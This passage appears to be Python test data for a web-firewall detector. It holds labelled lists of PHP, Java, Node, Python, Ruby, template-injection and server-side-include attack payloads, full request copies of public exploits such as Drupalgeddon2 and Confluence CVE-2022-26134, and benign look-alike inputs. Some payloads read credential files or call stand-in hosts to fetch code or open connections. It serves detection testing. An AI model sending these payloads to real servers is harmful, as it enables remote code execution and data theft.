    ("hdr", "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):0)}"),
    ("rawform", "class.module.classLoader.DefaultAssertionStatus=nonsense"), ("q", "#{facesContext.externalContext.redirect('http://x.example')}"),
    ("rawjson", '{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\').exec(\'id\');var __tmp2"}}'),
    ("rawq", "__proto__.polluted=1"), ("q", "require('child_'+'process').exec('id')"),
    ("q", "global[String.fromCharCode(112,114,111,99,101,115,115)].exit()"), ("q", "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp'))"),
    ("q", 'process.mainModule.constructor._load("child_process")'), ("q", "(()=>{}).constructor('return process')()"),
    ("q", "this['constructor']['constructor']('return process')()"),
    ("q", "{{ cycler['__init__']['__globals__']['os'].popen('id').read() }}"), ("q", "{{ request|attr(request.args.a) }}"),
    ("q", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}"), ("q", "{{ ()|attr('\\u005f\\u005fclass\\u005f\\u005f') }}"),
    ("q", "<#assign classloader=object?api.class.protectionDomain.classLoader>"),
    ("q", "{{=global.process.mainModule.require('child_process').execSync('id')}}"),
    ("form", "<%- global.process.mainModule.require('child_process').execSync('id') %>"), ("q", "@(1+2)"),
    ("q", "{{ request.__class__ }}"), ("q", "{{ handler.settings }}"), ("q", "{% raw __import__('os').popen('id').read() %}"),
    ("q", "{{ .Exec \"id\" }}"), ("q", '<!--#exec cmd="ls" -->'), ("json", '<!--#include virtual="/etc/passwd"-->'),
]

SSI_ATTACKS = [
    ("q", '<!--#exec cmd="id" -->'), ("form", '<!--#exec cmd="cat /etc/passwd"-->'),
    ("q", '<!--#include virtual="/etc/passwd" -->'), ("cookie", '<!--#include file="../../.htpasswd"-->'),
    ("ua", '<!--#echo var="DOCUMENT_ROOT" -->'), ("q", '<!--#echo var="DATE_LOCAL"-->'),
    ("q", '<!--#config errmsg="x" -->'), ("q", '<!--#config timefmt="%A"-->'), ("q", "<!--#printenv -->"),
    ("form", '<!--#exec cgi="/cgi-bin/x.cgi"-->'), ("q", '<!--#set var="x" value="y" -->'),
    ("q", '<!--#fsize file="index.html"-->'), ("q", '<esi:include src="http://x.example/"/>'),
    ("q", '<!--#if expr="$HTTP_USER_AGENT" -->'), ("q2", '<!--#exec cmd="id"-->'),
    ("ref", 'https://shop.example/<!--#exec cmd="id"-->'), ("json", '<!--#exec cmd="ls -la" -->'),
    ("mp", '<!--#include virtual="/cgi-bin/counter.pl" -->'), ("hdr", '<!--#printenv-->'),
    ("xff", '<!--#exec cmd="wget http://x.example/s"-->'), ("q", '<!--#flastmod virtual="index.html"-->'),
    ("jsonu", '<!--#exec cmd="id"-->'),
]

_FORM = [("Content-Type", "application/x-www-form-urlencoded")]
# Public exploits as their PoCs send them (whole requests: the structure is spread over path, names and headers)
REAL_WORLD = {
    "drupalgeddon2": req("/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
                         "POST", _FORM, b"form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec"
                                        b"&mail[#type]=markup&mail[#markup]=id"),
    "vbulletin-2019-16759": req("/index.php", "POST", _FORM,
                                b"routestring=ajax/render/widget_php&widgetConfig[code]=echo%20shell_exec('id');%20exit;"),
    "confluence-2022-26134": req(
        "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec"
        "%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext"
        "%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/"),
    "spring-cloud-function-2022-22963": req("/functionRouter", "POST", [
        ("spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("id")')], b"x"),
    "struts-s2-057": req("/${(111+111)}/actionChain1.action"),
    "jenkins-script-console": req("/script", "POST", _FORM, b"script=println+%22id%22.execute().text"),
    "text4shell-script": build("q", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
    "text4shell-dns": build("q", "${dns:address|x.example}"),
    "text4shell-url": build("hdr", "${url:UTF-8:http://x.example/}"),
    "text4shell-file": build("cookie", "${file:UTF-8:/etc/passwd}"),
    "geoserver-2024-36401": build("q", "exec(java.lang.Runtime.getRuntime(),'id')"),
    "php-cgi-2024-4577": req("/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "POST", [],
                             b"<?php system('id'); ?>"),
    "kibana-2019-7609": build("json", ".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"id\")')"),
    "pebble": build("q", "{% set b = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('id') %}"),
    "ignition-2021-3129": req("/_ignition/execute-solution", "POST", [("Content-Type", "application/json")],
                              b'{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution",'
                              b'"parameters":{"variableName":"x","viewFile":"phar://../storage/logs/laravel.log"}}'),
}

ATTACKS = PHP_ATTACKS + JAVA_ATTACKS + NODE_ATTACKS + SSTI_ATTACKS + SSI_ATTACKS + MORE_ATTACKS + THIRD_BATCH

BENIGN = [
    # prose and docs searches that name the same things
    ("q", "how to use Runtime exec in Java"), ("q", "php echo tutorial"), ("q", "Java Runtime Environment 17 download"),
    ("q", "processbuilder vs runtime exec java"), ("q", "java runtime error on startup"), ("q", "the system is down"),
    ("q", "eval() is evil"), ("q", "What does assert() do in PHP?"), ("q", "include path php.ini"),
    ("form", "Please include the invoice in the package. The system said my order is in process."),
    ("q", "php file_get_contents timeout"), ("q", "base64 decode online"), ("q", "log4j jndi vulnerability explained"),
    ("q", "spring4shell patch classloader"), ("q", "node child process example"), ("q", "prototype pollution lodash"),
    ("q", "jinja2 template inheritance"), ("q", "server side includes apache"), ("q", "freemarker assign directive"),
    ("q", "velocity template set variable"), ("q", "constructor"), ("q", "process"), ("q", "prototype"),
    ("q", "the constructor of the prototype"), ("q", "How do I process a refund?"), ("q", "Deserialization explained"),
    ("form", "My app shows a java.lang.NullPointerException when I click save, please help!"),
    ("form", "Exception in thread \"main\" java.lang.NullPointerException\n\tat com.example.App.main(App.java:14)"),
    ("form", "java.lang.ClassCastException: java.lang.String cannot be cast to java.lang.Integer\n"
             "\tat com.shop.Cart.total(Cart.java:88)\n\tat java.lang.Thread.run(Thread.java:748)"),
    ("json", "java.lang.RuntimeException: Unable to start activity ComponentInfo{com.example/com.example.MainActivity}: "
             "java.lang.IllegalStateException\n\tat android.app.ActivityThread.performLaunchActivity(ActivityThread.java:3270)\n"
             "\tat java.lang.reflect.Method.invoke(Native Method)\n"
             "\tat com.android.internal.os.RuntimeInit$MethodAndArgsCaller.run(RuntimeInit.java:493)"),
    ("form", "Caused by: java.lang.ClassNotFoundException: org.postgresql.Driver\n"
             "\tat java.net.URLClassLoader.findClass(URLClassLoader.java:382)\n"
             "\tat java.lang.ClassLoader.loadClass(ClassLoader.java:418)"),
    ("q", "java.lang.OutOfMemoryError: Java heap space"), ("q", "java.util.ConcurrentModificationException"),
    ("form", "at java.lang.reflect.Method.invoke(Method.java:498)"),
    ("q", "Class.forName(\"com.mysql.cj.jdbc.Driver\")"),
    # templates a CMS, mailer or shop stores
    ("form", "Hello {{first_name}}, your order {{order_id}} has shipped."), ("json", "Dear {{ customer.name }},"),
    ("form", "{{ name }}"), ("form", "Hi {{user.firstName}} - your code is {{code}}"),
    ("json", "Total: ${price} USD"), ("form", "Your balance is ${balance}."), ("q", "${price}"),
    ("form", "Hello ${firstName} ${lastName}"), ("json", "Dear #{name}, thanks for your order"),
    ("form", "{{#each items}}<li>{{this.title}}</li>{{/each}}"), ("form", "{{#if user}}Welcome back{{/if}}"),
    ("form", "{% if customer %}Hello {{ customer.first_name }}{% endif %}"),
    ("form", "{% for item in cart.items %}{{ item.title }}{% endfor %}"), ("form", "{{ content | safe }}"),
    ("form", "{{ tags | join(\", \") }}"), ("form", "{{ product.price | money }}"), ("q", "{{ page.title }}"),
    ("form", "<%= user.name %>"), ("q", "[[Main Page]]"), ("form", "Use ${PORT:-8080} in docker compose"),
    ("form", "export PATH=${HOME}/bin:$PATH"), ("form", "The total is 7*7=49 apples"), ("q", "7*7"),
    ("form", "Dear {first_name}, your {product} is ready"), ("form", "{0} items in {1}"),
    ("form", "Meet at {time} in {room}"), ("q", "#set"), ("form", "#include <stdio.h>"),
    ("form", "Tag your posts with #foreach and #set for the challenge"),
    # HTML the CMS keeps, with comments
    ("form", "<!-- comment -->"), ("form", "<p>Hello</p><!-- TODO: fix the footer -->"),
    ("form", "<!-- #main navigation -->"), ("form", "<!--[if IE]><p>Old browser</p><![endif]-->"),
    ("form", "<!-- include the header here -->"), ("form", "<!-- echo this later -->"),
    # JSON bodies of normal APIs
    ("rawjson", '{"class":"economy","type":"seat","prototype":false}'),
    ("rawjson", '{"constructor":"Ferrari","process":"painting","prototype":"v2"}'),
    ("rawjson", '{"product":{"class":"A","type":"widget","prototype":{"id":3}}}'),
    ("rawjson", '{"env":"production","exec":"nightly","system":"billing"}'),
    ("rawjson", '{"@type":"Product","name":"Trail shoe","offers":{"@type":"Offer","price":"89.00"}}'),
    ("rawjson", '{"template":"Hello {{name}}","channel":"email"}'),
    ("rawq", "class=economy&type=return"), ("rawq", "sort=price&order=asc&proto=https"),
    ("rawq", "user[name]=ann&user[role]=editor"), ("rawq", "filter[constructor]=ford"),
    ("rawq", "prototype=1&stage=2"),
    # everyday values that share characters
    ("q", "O'Brien"), ("q", "A:2:{"), ("q", "o:8"), ("q", "a:2:{x}"), ("q", "Product code O:8:A"),
    ("q", "$5 (five dollars)"), ("q", "cost $10 ('approx')"), ("q", "$var"), ("q", "PHP 8.2 release notes"),
    ("q", "system requirements"), ("q", "exec summary template"), ("q", "assert yourself"),
    ("q", "passthrough cable"), ("q", "popen"), ("q", "evaluate(x)"), ("q", "print(hello world)"),
    ("q", "copy(paste)"), ("q", "the data://protocol is a scheme"), ("q", "rO0m with a view"),
    ("q", "H4sI"), ("q", "Process Builder in Salesforce"), ("q", "runtime: 2h 15m"),
    ("q", "Mozilla/5.0 (X11; Linux x86_64)"), ("ua", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                                                "(KHTML, like Gecko) Chrome/124.0 Safari/537.36"),
    ("ua", "okhttp/4.12.0"), ("ua", "Java/17.0.2"), ("ua", "Apache-HttpClient/4.5.14 (Java/17.0.9)"),
    ("ua", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"), ("ua", "PHP/8.1.2"),
    ("ua", "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230805.001)"),
    ("hdr", "2024-01-01"), ("xff", "203.0.113.7, 10.0.0.1"), ("ref", "https://shop.example/search?q=java+runtime"),
    ("cookie", "theme=dark"), ("cookie", '{"cart":[1,2,3]}'), ("q", "array_merge"), ("q", "str_replace"),
    ("q", "What is str_replace in php"), ("q", "Math.round(4.5)"), ("q", "max(3, 4)"), ("q", "date('Y-m-d')"),
    ("q", "count(items)"), ("q", "console.log('hi')"), ("q", "git log --oneline"), ("q", "f(x) = 2x + 1"),
    ("q", "the process.env object in node"), ("q", "require('express')"), ("q", "python __init__ method"),
    ("q", "what is __proto__ in javascript"), ("form", "In JS every object has a constructor and a prototype."),
    ("q", "proto buffers"), ("q", "ldap server settings"), ("q", "rmi registry port"), ("q", "ssi comments"),
    ("form", "Email me at jane.doe+shop@example.com"), ("form", "10% off for {{member}}s!"),
    ("form", "Use **bold** and `code` in markdown"), ("q", "C++ std::vector<int>"), ("q", "[1,2,3].map(x => x*2)"),
    ("mp", "Hi team, see the attached notes. The system process will change next week."),
    ("mpfile", "name,price\nwidget,9.99\ngadget,19.99\n"), ("path", "java-runtime-exec-guide"),
    ("path", "php-include-tutorial"), ("b64", "hello world, this is plain text"), ("q", "$_ is a variable in perl"),
    ("q", "use $this->db in CodeIgniter"), ("q", "what does $$ mean in bash"),
    ("q", "Thread.sleep(1000)"), ("q", "String.format(\"%d\", n)"), ("q", "SELECT class FROM schedule"),
    ("json", "Order 7*7 boxes, ref #{A7}"), ("q", "{#each}"), ("q", "price={{price}}"),
    # template syntax CMSs, mailers and frameworks keep (Blade, Thymeleaf, Liquid, Smarty, Handlebars, Spring)
    ("form", "Hello {{ user.name }}! Your cart has {{ cart.count }} items"), ("form", "{{#if loggedIn}}Logout{{else}}Login{{/if}}"),
    ("form", "{{> header}}"), ("form", "{{ 'hello' | upcase }}"), ("form", "{% raw %}{{ x }}{% endraw %}"),
    ("form", "@Value(\"${server.port}\")"), ("form", "${server.port:8080}"), ("form", "{{ 'now' | date: '%Y' }}"),
    ("form", "<span th:text=\"${user.name}\">"), ("form", "*{firstName}"), ("form", "#{home.welcome}"),
    ("form", "[[${user.name}]]"), ("form", "{if $logged_in}Hi{/if}"), ("form", "{include file='header.tpl'}"),
    ("form", "{{ csrf_token() }}"), ("form", "{{ asset('css/app.css') }}"), ("form", "{{ config('app.name') }}"),
    ("form", "{!! $html !!}"), ("form", "@include('partials.nav')"),
    # code-ish searches
    ("q", "console.log(x)"), ("q", "const fs = require('fs')"), ("q", "node child_process tutorial"),
    ("q", "import React from 'react'"), ("q", "What is java.lang.Object?"), ("q", "getClass().getName()"),
    ("q", "String.valueOf(x)"), ("q", "fs.readFileSync is slow"), ("q", "The ProcessBuilder class"), ("q", "$10.99 (sale)"),
    ("q", "module exports vs exports"), ("q", "Runtime Terror (2019 film)"), ("q", "system32 folder"),
    ("q", "cursor.execute('SELECT 1')"), ("form", "Pick a ${url} for the banner"), ("q", "file: report.pdf"),
    ("form", "${dns} and ${url} are filled in by the mailer"), ("q", "mail[name]=Ann"), ("q", "(111+111)"),
    ("q", "sun.com (archived)"), ("q", "jdk.java.net (download)"), ("q", '"java.lang.OutOfMemoryError"'),
    ("form", "Set precision=2 in the calculator"), ("form", "file extension=.pdf"), ("q", "while(true) loop explained"),
    ("q", "__init__.py"), ("q", "instance_eval"), ("form", "Store open 'til 9pm, ask for O'Brien"), ("q", "perl -e"),
    ("q", "search engine=duckduckgo please"), ("q", "org.apache.commons.lang3.StringUtils"),
    # names from the vocabularies (CRS PHP function lists, Java classes) in prose, searches and other languages
    ("q", "json_encode vs serialize"), ("q", "is_numeric check php"), ("q", "array_keys order"),
    ("q", "get_object_or_404(Post, pk=1)"), ("q", "Object.keys(obj).length"), ("q", "str_split python equivalent"),
    ("q", "date_default_timezone_set not working"), ("q", "node process exit code 1"), ("q", "java.lang.NullPointerException"),
    ("q", "java.util.Locale"), ("q", "org.springframework.boot"), ("q", "hex2bin"), ("q", "pack my bags"),
    ("form", "java.io.IOException: Cannot run program \"git\"\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\n"
             "\tat java.lang.Runtime.exec(Runtime.java:620)"),
    ("form", "at java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)"),
    ("form", "NoSuchMethodException: com.shop.Cart.add(java.lang.String, int)"),
    ("form", "{{ product.title | escape }}"), ("form", "{% block content %}{% endblock %}"),
    ("form", "{% include 'header.html' %}"), ("form", "{% extends 'base.html' %}"), ("form", "{% set title = 'Home' %}"),
    ("form", "{% if user %}Welcome back{% endif %}"), ("form", "<!-- #set up the header -->"),
    ("form", "Order #1234 <!-- internal note -->"), ("form", "<!-- #else branch removed -->"),
    ("rawjson", '{"@type":"Product","brand":{"@type":"Brand","name":"ACME"}}'), ("q", "{{ item.price * qty }}"),
    ("q", "1 + 1 = {{answer}}"), ("form", "See section {%s} in the manual"), ("q", "Return this process form"),
    ("q", "global warming process"), ("q", "Object.prototype.toString"), ("q", "pack('large')"),
]


# Benign values another family's detector still flags (not owned here): for these only the absence of a hit from
# this file's detectors is asserted; they are listed in the round's report for their owners.
OTHER_DETECTORS = {
    ("q", "perl -e"), ("form", "export PATH=${HOME}/bin:$PATH"), ("q", "Thread.sleep(1000)"),
}
MINE = {name for mod in (code, ssti, ssi) for name, _score, _rx in mod.RULES}


# --- Round 2: every attack class of CRS 933 / 934 / 944 (PL1-2, plus the classes v4 added) and of SSTI / SSI, 2-6
# payloads each written from the technique (not from CRS's tests), labelled with the class. First pass on the code
# before round 2's changes: 165 / 175 caught (4 / 68 benign flagged by this file's detectors, plus 3 by rce).
CLASS_ATTACKS = [
    # 933100 PHP open tag
    ("933100 php open tag", "cookie", "<?php echo md5('probe'); ?>"),
    ("933100 php open tag", "xml", "<note><body><?php readfile('/etc/hostname'); ?></body></note>"),
    ("933100 php open tag", "form", "[php]echo 1337*3;[/php]"),
    ("933100 php open tag", "ua", "<? print(`uname`) ?>"),
    # 933110/933111 PHP script file upload (file names and upload headers)
    ("933110 php upload", "fname", "avatar.phtml"),
    ("933110 php upload", "fname", "invoice.php7"),
    ("933110 php upload", "xfname", "cmd.php"),
    ("933110 php upload", "fname", "image.pHp"),
    # 933120 configuration directives
    ("933120 php ini directive", "form", "allow_url_include=On"),
    ("933120 php ini directive", "q", "-d auto_prepend_file=php://input"),
    ("933120 php ini directive", "mpfile", "auto_append_file = \"/tmp/x.txt\"\ndisable_functions =\n"),
    ("933120 php ini directive", "json", "open_basedir=/"),
    # 933130 PHP variables
    ("933130 php variables", "q", "$_SERVER['DOCUMENT_ROOT']"),
    ("933130 php variables", "form", "print_r($GLOBALS);"),
    ("933130 php variables", "cookie", "$HTTP_RAW_POST_DATA"),
    ("933130 php variables", "json", "echo $_ENV[\"DB_PASSWORD\"];"),
    # 933140 I/O streams
    ("933140 php io stream", "q", "php://fd/3"),
    ("933140 php io stream", "form", "php://memory"),
    ("933140 php io stream", "json", "PHP://STDIN"),
    # 933200 wrapper schemes
    ("933200 php wrapper", "q", "ssh2.exec://user:pass@203.0.113.9:22/usr/bin/id"),
    ("933200 php wrapper", "form", "rar://uploads/a.rar#shell.php"),
    ("933200 php wrapper", "cookie", "glob:///var/www/*"),
    ("933200 php wrapper", "q", "ogg://uploads/track.ogg"),
    # 933150 high-risk function names
    ("933150 php high-risk name", "q", "phpinfo ( )"),
    ("933150 php high-risk name", "form", "PHPINFO();"),
    ("933150 php high-risk name", "json", "gzinflate(base64_decode($p))"),
    ("933150 php high-risk name", "hdr", "call_user_func_array('assert', [$_SERVER['HTTP_X']])"),
    # 933160 high-risk function calls (with blanks, comments, case)
    ("933160 php high-risk call", "q", "exec ( 'cat /etc/passwd' , $out )"),
    ("933160 php high-risk call", "form", "popen(\"ls -la\", \"r\")"),
    ("933160 php high-risk call", "q", "PassThru/**/('id')"),
    ("933160 php high-risk call", "json", "proc_open('bash', [['pipe','r']], $pipes)"),
    ("933160 php high-risk call", "cookie", "fputs(fopen('x.php','w+'),$_POST[1])"),
    # 933170 serialized objects
    ("933170 php serialized object", "hdr", 'O:9:"Exception":1:{s:7:"message";s:2:"hi";}'),
    ("933170 php serialized object", "json", 'a:2:{i:0;s:1:"x";i:1;O:6:"Logger":1:{s:4:"path";s:9:"shell.php";}}'),
    ("933170 php serialized object", "b64", 'O:14:"GuzzleHttp\\Psr7":1:{s:3:"foo";b:1;}'),
    ("933170 php serialized object", "q", 'C:16:"SplObjectStorage":20:{x:i:0;;m:a:0:{}}'),
    # 933180 variable function calls
    ("933180 php variable call", "q", "$cb = 'system'; $cb('whoami');"),
    ("933180 php variable call", "form", "$fn /* pad */ ($_GET['a'])"),
    ("933180 php variable call", "q", "${'fn'}('id')"),
    ("933180 php variable call", "cookie", "$$name($arg)"),
    # 933210 variable function calls without a variable
    ("933210 php call evasion", "q", "(\"sys\".\"tem\")(\"id\")"),
    ("933210 php call evasion", "form", "('pass'.'thru')('ls');"),
    ("933210 php call evasion", "q", "[\"system\"][0](\"id\")"),
    ("933210 php call evasion", "json", "(string)'system'"),
    # 933151 medium-risk function names (PL2)
    ("933151 php medium-risk call", "q", "stream_socket_server(\"tcp://0.0.0.0:4444\")"),
    ("933151 php medium-risk call", "form", "posix_getpwnam('root')"),
    ("933151 php medium-risk call", "q", "curl_exec($ch)"),
    ("933151 php medium-risk call", "json", "mysql_query(\"SELECT * FROM users\")"),
    # 934170 (v4) data: scheme carrying PHP
    ("934170 php data scheme", "q", "data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
    ("934170 php data scheme", "form", "data://text/plain,<?php phpinfo(); ?>"),
    ("934170 php data scheme", "q", "data:application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+"),
    # 934100 Node.js injection 1/2
    ("934100 node injection", "cookie", '{"u":"_$$ND_FUNC$$_function (){return require(\'os\').userInfo()}()"}'),
    ("934100 node injection", "q", "new Function('return this.process')().exit()"),
    ("934100 node injection", "json", "module.exports = function(){ return process.env }"),
    ("934100 node injection", "form", "eval(String.fromCharCode(112,114,111,99,101,115,115))"),
    # 934101 (v4) Node.js injection 2/2
    ("934101 node injection 2", "q", "require(\"child_process\").spawnSync(\"ls\")"),
    ("934101 node injection 2", "json", "process.mainModule.require('fs').readdirSync('/')"),
    ("934101 node injection 2", "hdr", "require('net').connect(4444,'203.0.113.5')"),
    ("934101 node injection 2", "q", "global.process.binding('fs')"),
    # 934130 prototype pollution
    ("934130 prototype pollution", "rawq", "filter[__proto__][admin]=1"),
    ("934130 prototype pollution", "rawjson", '{"constructor":{"prototype":{"isAdmin":true}}}'),
    ("934130 prototype pollution", "rawq", "a.constructor.prototype.b=1"),
    ("934130 prototype pollution", "rawjson", '{"settings":{"__proto__":{"polluted":"yes"}}}'),
    # 934160 Node.js DoS
    ("934160 node dos", "q", "while(!false){}"),
    ("934160 node dos", "json", "for(;;){}"),
    ("934160 node dos", "form", "while(1){var a=1}"),
    ("934160 node dos", "q", "while (Infinity) ;"),
    # 934140 Perl injection
    ("934140 perl injection", "q", "@{[system \"id\"]}"),
    ("934140 perl injection", "form", "@{[ `cat /etc/passwd` ]}"),
    ("934140 perl injection", "q", "open(my $fh, \"|/bin/sh -c id\")"),
    ("934140 perl injection", "json", "perl -MIO::Socket -e 'IO::Socket::INET->new(PeerAddr=>\"x.example:1\")'"),
    # 934150 Ruby injection
    ("934150 ruby injection", "q", "Process.spawn(\"id\")"),
    ("934150 ruby injection", "json", "Kernel.exec('id')"),
    ("934150 ruby injection", "form", "IO.popen('uname -a').read"),
    ("934150 ruby injection", "q", "Open3.capture2('id')"),
    ("934150 ruby injection", "cookie", "%x(whoami)"),
    ("934150 ruby injection", "q", "Object.send(:system, 'id')"),
    # Ruby / Python object deserialization (YAML tags, Marshal, pickle)
    ("ruby deserialization", "form", "--- !ruby/object:Gem::Installer\ni: x\n"),
    ("ruby deserialization", "json", "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"),
    ("ruby deserialization", "q", "Marshal.load(Base64.decode64(params[:d]))"),
    ("python deserialization", "form", "!!python/object/apply:os.system [\"id\"]"),
    ("python deserialization", "json", "!!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("python deserialization", "b64", "cos\nsystem\n(S'id'\ntR."),
    ("python deserialization", "q", "pickle.loads(base64.b64decode(data))"),
    # Python code injection
    ("python injection", "q", "__import__('os').system('id')"),
    ("python injection", "json", "exec(\"import os;os.system('id')\")"),
    ("python injection", "form", "subprocess.Popen(['/bin/sh','-c','id'])"),
    ("python injection", "q", "getattr(__import__('os'), 'popen')('id').read()"),
    ("python injection", "cookie", "eval(compile('print(1)', '<s>', 'exec'))"),
    ("python injection", "q", "__builtins__.__dict__['eval']('1')"),
    # SSTI engines
    ("ssti jinja2", "q", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti jinja2", "json", "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}"),
    ("ssti jinja2", "form", "{{ lipsum|attr('__globals__') }}"),
    ("ssti twig", "q", "{{['id',1]|sort('system')|join}}"),
    ("ssti twig", "form", "{{['id']|map('passthru')}}"),
    ("ssti twig", "q", "{{_self.env.registerUndefinedFilterCallback('shell_exec')}}"),
    ("ssti freemarker", "q", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"ls\")}"),
    ("ssti freemarker", "json", "${object?api.class.getResource('/').getContent()}"),
    ("ssti velocity", "form", "#set($r=$x.class.forName('java.lang.Runtime').getRuntime())$r.exec('id')"),
    ("ssti velocity", "q", "$x.getClass().forName('java.lang.Runtime')"),
    ("ssti thymeleaf/spel", "q", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x"),
    ("ssti thymeleaf/spel", "form", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("ssti erb", "q", "<%= Dir.entries('/') %>"),
    ("ssti erb", "form", "<%= File.read('/etc/passwd') %>"),
    ("ssti erb", "cookie", "<%= `id` %>"),
    ("ssti ejs", "q", "<%- include('/etc/passwd') %>"),
    ("ssti ejs", "json", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti nunjucks", "q", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("ssti pug", "form", "#{root.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti smarty", "q", "{system('cat /etc/passwd')}"),
    ("ssti smarty", "form", "{$smarty.template_object->smarty->_getSmartyObj()}"),
    ("ssti mako", "q", "<%import os%>${os.popen('id').read()}"),
    ("ssti mako", "form", "${self.module.runtime.util.os.popen('id').read()}"),
    ("ssti django", "q", "{% load log %}{% get_admin_log 10 as log %}{{ log }}"),
    ("ssti django", "form", "{% debug %}"),
    ("ssti handlebars", "q", "{{#with (lookup this 'constructor')}}{{/with}}"),
    ("ssti razor", "q", "@System.IO.File.ReadAllText(\"C:/Windows/win.ini\")"),
    ("ssti razor", "form", "@{ var p = System.Diagnostics.Process.Start(\"whoami\"); }"),
    ("ssti probe", "q", "{{ 9*9 }}"),
    ("ssti probe", "ua", "${{ 6*6 }}"),
    ("ssti probe", "hdr", "<%= 8*8 %>"),
    ("ssti probe", "path", "${7*7}"),
    # SSI / ESI
    ("ssi exec", "ua", "<!--#exec cmd=\"whoami\"-->"),
    ("ssi exec", "cookie", "<!--#exec cgi=\"/cgi-bin/printenv.pl\" -->"),
    ("ssi include", "ref", "https://x.example/<!--#include virtual=\"/.htpasswd\"-->"),
    ("ssi include", "json", "<!--#include file=\"../../../../etc/shadow\" -->"),
    ("ssi echo/printenv", "xff", "<!--#echo var=\"REMOTE_ADDR\" -->"),
    ("ssi echo/printenv", "form", "<!--#printenv-->"),
    ("esi", "hdr", "<esi:include src=\"http://x.example/x.xml\" stylesheet=\"http://x.example/x.xsl\"/>"),
    ("esi", "cookie", "<esi:assign name=\"x\" value=\"$(HTTP_COOKIE)\"/>"),
    ("esi", "q", "<esi:debug/>"),
    ("esi", "form", "$(HTTP_COOKIE{'PHPSESSID'})<esi:vars>$(QUERY_STRING)</esi:vars>"),
    # 944100/944250 Java classes and methods
    ("944100 java class", "json", "java.lang.Runtime.getRuntime().exec(\"touch /tmp/x\")"),
    ("944100 java class", "hdr", "new java.lang.ProcessBuilder(\"id\").start()"),
    ("944100 java class", "xml", "<string>java.lang.ProcessBuilder</string>"),
    ("944250 java method", "q", "java.lang.Runtime.getRuntime().exec(cmd)"),
    ("944250 java method", "form", "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id\"})"),
    # 944110 XStream process spawn (CVE-2017-9805)
    ("944110 xstream spawn", "xml", "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><next class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></next></iter></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>"),
    ("944110 xstream spawn", "xml", "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default></java.util.PriorityQueue></java.util.PriorityQueue>"),
    # 944120/944240 commons-collections style gadgets
    ("944120 java gadget", "xml", "<org.apache.commons.collections.functors.InvokerTransformer><iMethodName>exec</iMethodName></org.apache.commons.collections.functors.InvokerTransformer>"),
    ("944120 java gadget", "json", "org.apache.commons.collections.functors.ChainedTransformer"),
    ("944120 java gadget", "form", "java.beans.XMLDecoder(new java.io.ByteArrayInputStream(x))"),
    # 944130 suspicious Java classes (java-classes.data) as code
    ("944130 java class list", "q", "new java.io.FileOutputStream(\"/var/www/s.jsp\")"),
    ("944130 java class list", "json", "org.omg.CORBA.ORB.init()"),
    ("944130 java class list", "form", "java.lang.reflect.Method m = c.getDeclaredMethod(\"exec\", String.class);"),
    ("944130 java class list", "q", "com.opensymphony.xwork2.ActionContext.getContext()"),
    # 944200/944210 serialization magic
    ("944200 java serialized", "hdr", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="),
    ("944200 java serialized", "q", "ACED00057372001D6A6176612E7574696C2E486173684D6170"),
    ("944210 java serialized b64", "json", "rO0ABXQAA2Zvbw=="),
    # 944140 (v4) JSP upload
    ("944140 jsp upload", "fname", "cmd.jsp"),
    ("944140 jsp upload", "fname", "report.jspx"),
    ("944140 jsp upload", "xfname", "shell.jsp"),
    # 944150/944151 Log4Shell
    ("944150 log4shell", "hdr", "${jndi:ldap://x.example:1389/o=tomcat}"),
